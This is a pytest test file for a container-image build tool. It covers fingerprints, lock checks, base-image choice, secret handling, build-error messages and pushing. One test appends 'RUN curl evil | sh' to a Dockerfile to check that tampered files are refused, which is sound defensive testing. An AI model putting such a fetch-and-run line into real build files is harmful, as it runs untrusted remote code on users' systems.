import base64
import dataclasses
import json
import os
import re
import shutil
import subprocess
import sys
from pathlib import Path
from types import SimpleNamespace

import pytest
from hypothesis import given
from hypothesis import strategies as st

from kit import paths
from kit.decide import compat
from kit.engine.podman import Podman
from kit.errors import (
    BaseNotFoundError,
    BuildFailedError,
    DiskFullError,
    EngineFeatureError,
    IncompatibleError,
    LockError,
    NetworkError,
    UnlockedError,
)
from kit.facts.host import Host
from kit.image import base as base_module
from kit.image.build import ensure, images
from kit.image.build.ensure import ImageOptions
from kit.image.build.images import build, build_error, choose_base
from kit.image.build.inputs import STEP_SCRIPTS, current, fingerprint, kit_context, read_inputs
from kit.image.build.options import SILENT, BuildOptions, ChosenBase, Progress
from kit.image.build.podman import for_podman
from kit.image.build.transfer import push_image
from kit.image.buildlog import BuildLog, PodmanLog
from kit.locks.format import parse_requirements, split_layers
from kit.network import NetworkSettings
from tests.conftest import REPOSITORY
from tests.fake_docker import info

RECORDED = Path(__file__).parent / "data/buildx"
NO_IMAGE = {"stdout": "\n", "stderr": "Error response from daemon: No such image: x\n", "code": 1}
REFUSED = (
    'ERROR: failed to do request: Head "https://registry-1.docker.io/v2/library/ubuntu/manifests/24.04": '
    "dial tcp: lookup registry-1.docker.io: no such host\n"
)


def recorded(name):
    return (RECORDED / f"{name}.jsonl").read_text()


def log_of(name):
    log = BuildLog()
    for line in recorded(name).splitlines():
        log.feed(line)
    return log


@pytest.fixture
def buildx(fake_docker):
    """A docker with buildx, a registry that answers, no image yet, and a build that works."""
    fake_docker.reply("image", "inspect", **NO_IMAGE)
    fake_docker.reply("buildx", "version", stdout="github.com/docker/buildx 0.29.1\n")
    fake_docker.reply("buildx", "imagetools", stdout="Name: x\n")
    fake_docker.reply("buildx", "build", stdout=recorded("ok"))
    return fake_docker


@pytest.fixture
def archive(monkeypatch):
    """A registry-free base is there already, instead of being made."""
    made = []

    def ensure(suite, *_args, **_kwargs):
        made.append(suite)
        return SimpleNamespace(reference=f"kit/base:{suite}")

    monkeypatch.setattr(base_module, "ensure", ensure)
    return made


def build_args(fake_docker):
    calls = fake_docker.called("buildx", "build")
    assert len(calls) == 1
    return calls[0].args


def run_build(project, engine, **options):
    return build(project.catalog, project.image, engine, BuildOptions(**options))


# -- what an image is built from


@given(st.lists(st.text(), min_size=3, max_size=3), st.integers(0, 2), st.text(min_size=1))
def test_the_fingerprint_changes_with_each_input(parts, which, more):
    other = [part + more if i == which else part for i, part in enumerate(parts)]
    assert fingerprint(*parts) == fingerprint(*parts)
    assert fingerprint(*parts) != fingerprint(*other)


def test_the_fingerprint_tells_where_one_input_ends():
    assert fingerprint("ab", "c", "") != fingerprint("a", "bc", "")


@pytest.mark.parametrize("name", STEP_SCRIPTS)
def test_the_fingerprint_changes_with_the_scripts_of_the_steps(project, name):
    before = fingerprint("a", "b", "c")
    script = paths.templates_dir() / name
    script.write_text(script.read_text() + "true\n")
    assert fingerprint("a", "b", "c") != before


def test_inputs_are_read_when_they_agree(project):
    inputs = read_inputs(project.catalog, project.image)
    assert inputs.dockerfile == (project.folder / "Dockerfile").read_text()
    assert "tensorflow==2.21.0" in inputs.lock.requirements


def test_a_dockerfile_edited_by_hand_is_not_built(project):
    file = project.folder / "Dockerfile"
    file.write_text(file.read_text() + "RUN curl evil | sh\n")
    with pytest.raises(LockError, match="is not what the templates and the catalog say") as caught:
        read_inputs(project.catalog, project.image)
    assert "kit render tf-cpu" in caught.value.hint


def test_a_lock_edited_by_hand_is_not_built(project):
    file = project.folder / "requirements.lock"
    file.write_text(file.read_text().replace("2.21.0", "2.20.0"))
    with pytest.raises(LockError, match="its hash is not the one") as caught:
        read_inputs(project.catalog, project.image)
    assert "kit lock tf-cpu" in caught.value.hint


def test_a_lock_of_another_catalog_is_not_built(project):
    file = project.folder / "lock.json"
    file.write_text(json.dumps(json.loads(file.read_text()) | {"inputs_hash": "sha256:0"}))
    with pytest.raises(LockError, match="the lock of tf-cpu is stale") as caught:
        read_inputs(project.catalog, project.image)
    assert "kit lock tf-cpu" in caught.value.hint


def test_an_image_without_a_lock_is_not_built(project):
    file = project.folder / "lock.json"
    file.write_text(json.dumps(json.loads(file.read_text()) | {"unlocked": "the index cannot be reached"}))
    with pytest.raises(UnlockedError, match="the index cannot be reached"):
        read_inputs(project.catalog, project.image)


# -- the build


def test_a_build_names_its_base_and_carries_what_it_was_built_from_as_labels(project, engine, buildx):
    built = run_build(project, engine)
    reference = project.catalog.base_for(project.image).reference
    args = build_args(buildx)
    assert (built.is_new, built.base, built.reference) == (True, reference, "kit/tf-cpu:latest")
    assert f"--build-arg=BASE={reference}" in args
    assert "--build-arg=SOURCE_DATE_EPOCH=1795219200" in args
    assert f"--label=kit.fingerprint={built.fingerprint}" in args
    assert f"--label=kit.base-identity={reference}" in args
    assert "--label=kit.base-source=registry" in args
    assert "--progress=rawjson" in args


@pytest.mark.parametrize("name", ["tf-cpu", "torch2.14-cu130-devel"])
def test_a_build_gets_the_dockerfile_and_the_whole_lock(catalog, engine, buildx, monkeypatch, name):
    """Of a lock with a parent too: the Dockerfile copies one file, which its own folder has a part of."""
    given = {}
    stream = engine.stream

    def look(args, on_line, environment=None):
        if "build" in args:
            given.update({file.name: file.read_text() for file in Path(args[-1]).iterdir()})
        return stream(args, on_line, environment)

    monkeypatch.setattr(engine, "stream", look)
    image = catalog.find(name)
    build(catalog, image, engine, BuildOptions())
    inputs = read_inputs(catalog, image)
    assert given == {"Dockerfile": inputs.dockerfile, "requirements.lock": inputs.lock.requirements}
    assert not Path(build_args(buildx)[-1]).exists(), "gone when the build is over"


def test_the_dockerfiles_build_without_kit_as_contributing_says(catalog, engine, buildx, tmp_path, monkeypatch):
    """A plain `docker build` gives the steps the same files, and what kit gives besides has a default or is a label."""
    text = (REPOSITORY / "CONTRIBUTING.md").read_text()
    script = next(block for block in re.findall(r"(?ms)^```sh\n(.*?)^```", text) if "docker build " in block)
    monkeypatch.setenv("TMPDIR", str(tmp_path))
    monkeypatch.setenv("PATH", f"{Path(sys.executable).parent}:{os.environ['PATH']}")
    subprocess.run(["bash", "-euo", "pipefail", "-c", script], cwd=REPOSITORY, check=True)
    by_hand = [call.args for call in buildx.called("build")]
    assert [args[-2] for args in by_hand] == ["torch2.7-cu126", "torch2.7-cu126-devel"]
    for args in by_hand:
        image = catalog.find(args[-2])
        inputs = read_inputs(catalog, image)
        build(catalog, image, engine, BuildOptions())
        by_kit = buildx.called("buildx", "build")[-1].args
        contexts = [a.removeprefix("--build-context=") for a in by_kit if a.startswith("--build-context")]
        assert [c.partition("=")[0] for c in contexts] == ["kit"]
        theirs = Path(args[args.index("--build-context") + 1].removeprefix("kit="))
        for file in Path(contexts[0].removeprefix("kit=")).iterdir():
            assert (theirs / file.name).read_bytes() == file.read_bytes()
            assert os.access(theirs / file.name, os.X_OK) == os.access(file, os.X_OK)
        folder = REPOSITORY / args[-1]
        assert (folder / "Dockerfile").read_text() == inputs.dockerfile
        layers = split_layers((folder / "requirements.lock").read_text())
        assert {name: parse_requirements(text) for name, text in layers.items()} == {
            name: parse_requirements(text) for name, text in inputs.lock.layers.items()
        }
        for argument in (a.removeprefix("--build-arg=") for a in by_kit if a.startswith("--build-arg=")):
            assert f"ARG {argument}\n" in inputs.dockerfile


def test_layers_are_zstd_where_the_store_has_it(project, engine, buildx):
    run_build(project, engine)
    output = build_args(buildx)[build_args(buildx).index("--output") + 1]
    assert {"type=image", "name=kit/tf-cpu:latest", "compression=zstd", "unpack=true"} <= set(output.split(","))


def test_the_old_store_gets_a_tag(project, engine, buildx):
    buildx.reply("info", stdout=info(DriverStatus=[["Backing Filesystem", "extfs"]]))
    run_build(project, engine)
    args = build_args(buildx)
    assert "--output" not in args
    assert args[args.index("--tag") + 1] == "kit/tf-cpu:latest"


def test_an_engine_without_buildx_builds_nothing(project, engine, buildx):
    buildx.reply("buildx", "version", stderr="docker: unknown command: docker buildx\n", code=1)
    with pytest.raises(EngineFeatureError):
        run_build(project, engine)
    assert buildx.called("buildx", "build") == []


def test_certificates_proxies_and_mirrors_are_secrets_and_in_no_argument(project, engine, buildx, tmp_path):
    ca = tmp_path / "ca.pem"
    network = NetworkSettings(
        ca_file=ca, proxies={"https_proxy": "http://me:pass@proxy:1"}, named_index="https://user:word@mirror/simple"
    )
    run_build(project, engine, network=network)
    args = build_args(buildx)
    assert f"--secret=id=ca,src={ca}" in args
    assert "--secret=id=environment,env=KIT_BUILD_SECRETS" in args
    assert "user:word@mirror" in buildx.called("buildx", "build")[0].env["KIT_BUILD_SECRETS"]
    assert "pass@" not in " ".join(args)
    assert "word@" not in " ".join(args)
    assert "--network=host" not in args


def test_without_settings_there_is_no_secret(project, engine, buildx):
    run_build(project, engine)
    assert not [a for a in build_args(buildx) if "secret" in a]


def test_git_is_not_asked_about_what_is_around(project, engine, buildx):
    run_build(project, engine)
    (call,) = buildx.called("buildx", "build")
    assert call.env["BUILDX_GIT_INFO"] == "false"


def test_a_proxy_on_this_machine_needs_its_network(project, engine, buildx):
    run_build(project, engine, network=NetworkSettings(proxies={"http_proxy": "http://127.0.0.1:3128"}))
    assert {"--allow=network.host", "--network=host"} <= set(build_args(buildx))


def test_uv_and_the_scripts_are_a_context_that_is_made_once(project, engine, buildx):
    run_build(project, engine)
    context = next(a for a in build_args(buildx) if a.startswith("--build-context=kit="))
    folder = Path(context.removeprefix("--build-context=kit="))
    assert sorted(f.name for f in folder.iterdir()) == sorted(["uv", *STEP_SCRIPTS])
    assert os.access(folder / "uv", os.X_OK)
    assert kit_context(project.catalog.uv_version) == folder
    assert [f.name for f in folder.parent.iterdir()] == [folder.name], "nothing half made beside it"


def test_steps_are_reported_as_they_finish(project, engine, buildx):
    finished = []
    build(
        project.catalog,
        project.image,
        engine,
        BuildOptions(),
        Progress(message=print, log=lambda _log, steps: finished.extend(steps)),
    )
    assert "exporting to image" in [step.title for step in finished]


def test_no_cache_reaches_buildx(project, engine, buildx):
    run_build(project, engine, no_cache=True)
    assert build_args(buildx).count("--no-cache") == 1


# -- up to date


@pytest.fixture
def built_image(project, engine, buildx):
    """The image is in the engine as a build of it made it."""
    run_build(project, engine)
    labels = dict(
        a.removeprefix("--label=").partition("=")[::2] for a in build_args(buildx) if a.startswith("--label=")
    )
    buildx.has_image(labels)
    return labels


def is_current(project, engine, **options):
    return current(project.catalog, project.image, engine, BuildOptions(**options)) is not None


def test_an_image_that_is_up_to_date_is_not_built_again(project, engine, buildx, built_image):
    built = run_build(project, engine)
    assert (built.is_new, built.fingerprint) == (False, built_image["kit.fingerprint"])
    assert len(buildx.called("buildx", "build")) == 1, "the one of the fixture"


def test_an_image_is_out_of_date_when_its_parents_lock_changes(project, engine, buildx):
    image = project.catalog.find("torch2.14-cu130-devel")
    for name in (image.name, image.release.name):
        shutil.copytree(REPOSITORY / "images" / name, project.root / "images" / name)
    folder = project.root / "images" / image.name
    inputs = read_inputs(project.catalog, image)
    identity = project.catalog.base_for(image).reference
    mark = fingerprint(inputs.dockerfile, inputs.lock.requirements, identity)
    labels = {"kit.fingerprint": mark, "kit.base-identity": identity, "kit.base-source": "registry"}
    buildx.has_image(labels)
    assert current(project.catalog, image, engine, BuildOptions()).fingerprint == mark
    assert len((folder / "requirements.lock").read_text().splitlines()) < 30, "it holds what it adds"
    parent = project.root / "images" / image.release.name / "requirements.lock"
    parent.write_text(parent.read_text() + "# more\n")
    assert current(project.catalog, image, engine, BuildOptions()) is None
    parent.unlink()
    assert current(project.catalog, image, engine, BuildOptions()) is None


@pytest.mark.parametrize("options", [{"force": True}, {"no_cache": True}])
def test_a_build_can_be_forced(project, engine, buildx, built_image, options):
    assert run_build(project, engine, **options).is_new


def test_the_base_that_was_asked_for_counts(project, engine, built_image):
    assert is_current(project, engine)
    assert is_current(project, engine, base="registry")
    assert not is_current(project, engine, base="archive")


def change_lock(project):
    project.lock(
        "# layer: cuda\n# layer: framework\ntensorflow==2.22.0 \\\n    --hash=sha256:" + "1" * 64 + "\n# layer: apps\n"
    )


def change_dockerfile(project):
    file = project.folder / "Dockerfile"
    file.write_text(file.read_text() + "\n")


def change_script(_project):
    file = paths.templates_dir() / "end.sh"
    file.write_text(file.read_text() + "true\n")


def remove_lock(project):
    (project.folder / "requirements.lock").unlink()


@pytest.mark.parametrize("change", [change_lock, change_dockerfile, change_script, remove_lock])
def test_an_image_is_out_of_date_when_any_input_changes(project, engine, built_image, change):
    assert is_current(project, engine)
    change(project)
    assert not is_current(project, engine)


@pytest.mark.parametrize("labels", [{}, {"kit.fingerprint": "0"}, {"kit.base-identity": "elsewhere/ubuntu:24.04"}])
def test_labels_that_do_not_fit_are_another_image(project, engine, buildx, built_image, labels):
    buildx.has_image({**built_image, **labels} if labels else {})
    assert not is_current(project, engine)


def test_a_base_the_image_no_longer_has_is_out_of_date_even_with_a_right_fingerprint(
    project, engine, buildx, built_image
):
    identity = "archive:stretch"
    mark = fingerprint(
        (project.folder / "Dockerfile").read_text(), (project.folder / "requirements.lock").read_text(), identity
    )
    buildx.has_image(built_image | {"kit.fingerprint": mark, "kit.base-identity": identity})
    assert not is_current(project, engine)


# -- the base


def choose(project, engine, said=None, image=None, **options):
    progress = SILENT if said is None else Progress(message=said.append, log=lambda *_: None)
    return choose_base(project.catalog, image or project.image, engine, BuildOptions(**options), progress)


def test_auto_takes_the_registry_when_it_answers(project, engine, buildx, archive):
    chosen = choose(project, engine)
    row = project.catalog.base_for(project.image)
    assert chosen == ChosenBase(source="registry", reference=row.reference, python=row.python, identity=row.reference)
    assert archive == []


def test_auto_takes_the_archive_when_no_registry_answers_and_says_so(project, engine, buildx, archive):
    buildx.reply("buildx", "imagetools", stderr=REFUSED, code=1)
    said = []
    chosen = choose(project, engine, said)
    suite = project.catalog.suites_for(project.image)[0]
    assert chosen == ChosenBase(
        source="archive", reference=f"kit/base:{suite.name}", python=suite.python, identity=f"archive:{suite.name}"
    )
    assert said == [f"the container registry does not answer: building on a registry-free {suite.distro} base"]


def test_auto_does_not_wait_long_for_a_registry(project, engine, buildx, archive, monkeypatch):
    monkeypatch.setattr(images, "REGISTRY_PATIENCE_S", 0.3)
    buildx.reply("buildx", "imagetools", sleep=30)
    assert choose(project, engine).source == "archive"


def test_a_registry_that_was_asked_for_must_answer(project, engine, buildx, archive):
    buildx.reply("buildx", "imagetools", stderr=REFUSED, code=1)
    with pytest.raises(NetworkError, match="does not answer") as caught:
        choose(project, engine, base="registry")
    assert "--base archive" in caught.value.hint
    assert "no such host" in caught.value.details[0]
    assert archive == []


@pytest.mark.parametrize("base", ["auto", "registry"])
def test_a_base_that_the_registry_does_not_have_is_never_silently_replaced(project, engine, buildx, archive, base):
    buildx.reply("buildx", "imagetools", stderr="ERROR: docker.io/library/ubuntu:24.04: not found\n", code=1)
    with pytest.raises(BaseNotFoundError, match=r"does not have the base ubuntu:24\.04") as caught:
        choose(project, engine, base=base)
    assert "kit update" in caught.value.hint
    assert archive == []


def test_archive_asks_no_registry(project, engine, buildx, archive):
    assert choose(project, engine, base="archive").source == "archive"
    assert buildx.called("buildx", "imagetools") == []


@pytest.mark.parametrize(
    "mirror", ["mirror.example:5000", "https://mirror.example:5000/", "http://mirror.example:5000"]
)
def test_a_mirror_stands_before_the_base_and_does_not_change_the_image(project, engine, buildx, mirror):
    row = project.catalog.base_for(project.image)
    chosen = choose(project, engine, registry_mirror=mirror)
    assert chosen.reference == f"mirror.example:5000/library/{row.reference}", "as Docker Hub's own images are named"
    assert chosen.identity == row.reference
    gpu = project.catalog.find("torch-cu126")
    chosen = choose(project, engine, image=gpu, registry_mirror=mirror)
    assert chosen.reference == f"mirror.example:5000/{project.catalog.base_for(gpu).reference}"


def test_an_image_that_takes_cuda_from_its_base_cannot_do_without_a_registry(project, engine, buildx, archive):
    image = next(i for i in project.catalog.images() if i.release.cuda_provider == "base")
    with pytest.raises(IncompatibleError, match=f"{image.name} cannot be built on a registry-free base") as caught:
        choose(project, engine, image=image, base="archive")
    assert "--base registry" in caught.value.hint
    buildx.reply("buildx", "imagetools", stderr=REFUSED, code=1)
    with pytest.raises(NetworkError):
        choose(project, engine, image=image)
    assert archive == []


# -- failures


def test_a_failed_step_is_named_with_its_last_lines_only():
    error = build_error("tf-cpu", log_of("fail"), 1)
    assert type(error) is BuildFailedError
    assert error.message.startswith('the build of tf-cpu failed in the step "[2/2] for i in')
    assert error.details == tuple(f"line {n} of the output" for n in range(46, 61))
    assert "same command" in error.hint


def test_a_full_disk_is_told_apart_from_a_failed_step():
    error = build_error("x", log_of("full"), 1)
    assert type(error) is DiskFullError
    assert error.details == ("cp: error writing '/scratch/a': No space left on device",)
    assert "prune" in error.hint


def test_a_full_disk_at_the_export_too():
    log = BuildLog()
    log.feed(
        json.dumps(
            {
                "vertexes": [
                    {
                        "digest": "a",
                        "name": "exporting to image",
                        "error": "failed to copy: write /data/x: no space left on device",
                    }
                ]
            }
        )
    )
    assert type(build_error("x", log, 1)) is DiskFullError


def test_a_base_that_is_not_there():
    error = build_error("x", log_of("missing"), 1)
    assert type(error) is BaseNotFoundError
    assert "kit update" in error.hint
    assert "12.6.3-base-ubuntu24.04: not found" in error.details[0]


@pytest.mark.parametrize("name", ["refused", "hub"])
def test_a_registry_that_cannot_be_reached_is_a_network_error(name):
    error = build_error("x", log_of(name), 1)
    assert type(error) is NetworkError
    assert "--registry-mirror" in error.hint


@pytest.mark.parametrize("command", ["uv pip install", "echo FROM there", "echo load metadata for x"])
def test_not_found_in_a_step_is_not_a_missing_base(command):
    log = BuildLog()
    log.feed(json.dumps({"vertexes": [{"digest": "a", "name": f"[3/9] RUN {command}", "error": "exit code: 127"}]}))
    log.feed(json.dumps({"logs": [{"vertex": "a", "data": "c2g6IDE6IHV2OiBub3QgZm91bmQK"}]}))
    error = build_error("x", log, 1)
    assert type(error) is BuildFailedError
    assert error.details == ("sh: 1: uv: not found",)


def test_a_sentence_of_a_steps_script_is_the_error():
    log = BuildLog()
    log.feed(json.dumps({"vertexes": [{"digest": "a", "name": "[3/9] RUN sh", "error": "exit code: 1"}]}))
    text = base64.b64encode(b"E: 404\nkit: the mirror has x 2 now, and kit.lock 1\n").decode()
    log.feed(json.dumps({"logs": [{"vertex": "a", "data": text}]}))
    error = build_error("tf-cpu", log, 1)
    assert type(error) is BuildFailedError
    assert error.message == "the build of tf-cpu failed: the mirror has x 2 now, and kit.lock 1"
    assert error.details == ("E: 404",)


def test_a_failure_without_a_step_shows_what_buildx_said():
    error = build_error("x", log_of("syntax"), 1)
    assert type(error) is BuildFailedError
    assert "exit code 1" in error.message
    assert "unknown instruction: RUNN" in error.details[-1]
    assert len(error.details) <= 15


def test_a_failure_with_no_words_at_all():
    error = build_error("x", BuildLog(), 137)
    assert error.message == "the build of x failed with exit code 137"
    assert error.details == ()


def test_a_build_that_fails_raises_and_its_error_is_short(project, engine, buildx):
    buildx.reply("buildx", "build", stdout=recorded("fail"), code=1)
    with pytest.raises(BuildFailedError) as caught:
        run_build(project, engine)
    assert len(caught.value.details) <= 15


# -- Podman


def podman_error(name, code=125):
    log = PodmanLog()
    for line in (RECORDED.parent / f"podman/{name}.txt").read_text().splitlines():
        log.feed(line)
    return build_error("tf-cpu", log, code, hints=Podman.hints)


def test_a_failed_step_of_podman_is_named_with_its_last_lines_only():
    error = podman_error("fail", 3)
    assert type(error) is BuildFailedError
    assert error.message.startswith('the build of tf-cpu failed in the step "[2/3] for i in')
    assert error.details == tuple(f"line {n} of the output" for n in range(46, 61))


@pytest.mark.parametrize("name", ["full", "full-store"])
def test_a_full_disk_of_podmans_is_told_apart_in_a_step_and_at_the_end(name):
    error = podman_error(name)
    assert type(error) is DiskFullError
    assert "podman system prune" in error.hint


def test_a_base_that_podman_does_not_find():
    error = podman_error("missing")
    assert type(error) is BaseNotFoundError
    assert "manifest unknown" in error.details[0]


def test_a_registry_that_podman_cannot_reach():
    assert type(podman_error("refused")) is NetworkError


def test_podman_is_told_what_a_step_mounts(project, tmp_path):
    for name in ("uv", *STEP_SCRIPTS):
        (tmp_path / name).write_text(name)
    inputs = read_inputs(project.catalog, project.image)
    layers = dict(inputs.lock.layers)

    def steps():
        text = for_podman(inputs.dockerfile, tmp_path, layers)
        assert "AS lock" not in text
        assert "from=lock" not in text
        return [step for step in text.split("\n\n") if "RUN " in step]

    before = steps()
    layers["framework"] += "# other\n"
    after = steps()
    changed = [(old, new) for old, new in zip(before, after, strict=True) if old != new]
    assert len(changed) == 1, "a layer's part of the lock is in its own step alone"
    assert "source=framework.txt" in changed[0][1]
    (tmp_path / "end.sh").write_text("other")
    assert all(old != new for old, new in zip(after, steps(), strict=True))


# -- pushing


def test_push_tags_and_pushes(project, engine, buildx):
    built = run_build(project, engine)
    assert push_image(engine, built, "registry.example/me/") == "registry.example/me/tf-cpu:latest"
    assert buildx.called("tag")[0].args == ["tag", "kit/tf-cpu:latest", "registry.example/me/tf-cpu:latest"]
    assert buildx.called("push")[0].args == ["push", "registry.example/me/tf-cpu:latest"]


def test_a_push_that_is_refused_says_to_log_in(project, engine, buildx):
    built = run_build(project, engine)
    buildx.reply("push", stdout="unauthorized: authentication required\n", code=1)
    with pytest.raises(BuildFailedError, match="could not be pushed") as caught:
        push_image(engine, built, "registry.example/me")
    assert caught.value.details == ("unauthorized: authentication required",)
    assert "docker login registry.example" in caught.value.hint


def test_options_are_values():
    with pytest.raises(dataclasses.FrozenInstanceError):
        BuildOptions().base = "archive"  # type: ignore[misc]


def test_without_a_gpu_an_image_that_is_there_is_taken_instead_of_a_download(catalog, engine, fake_docker, monkeypatch):
    said = []
    screen = SimpleNamespace(say=said.append)
    host = Host(platform="linux/amd64")
    chosen = compat.choose(catalog, "torch", host)[0]
    there = catalog.find("torch2.6-cu124")
    fake_docker.reply("image", "ls", stdout=f"{there.reference}\nkit/torch2.4-cu121:latest\n")
    is_current = {there.name}
    monkeypatch.setattr(
        "kit.image.build.ensure.current", lambda _, image, *__: "built" if image.name in is_current else None
    )

    def take(name, image=chosen, **options):
        return ensure.built_instead(catalog, name, image, host, engine, ImageOptions(**options), screen)

    assert take("torch") == there
    assert said == [f"torch: {there.name}, which is there already; {chosen.name} would have to be built"]
    assert take(chosen.name) == chosen, "what is named outright is what is meant"
    assert take("torch", pull="registry.example/x") == chosen
    is_current.add(chosen.name)
    assert take("torch") == chosen
    is_current.clear()
    assert take("torch") == chosen, "what is out of date would have to be built too"
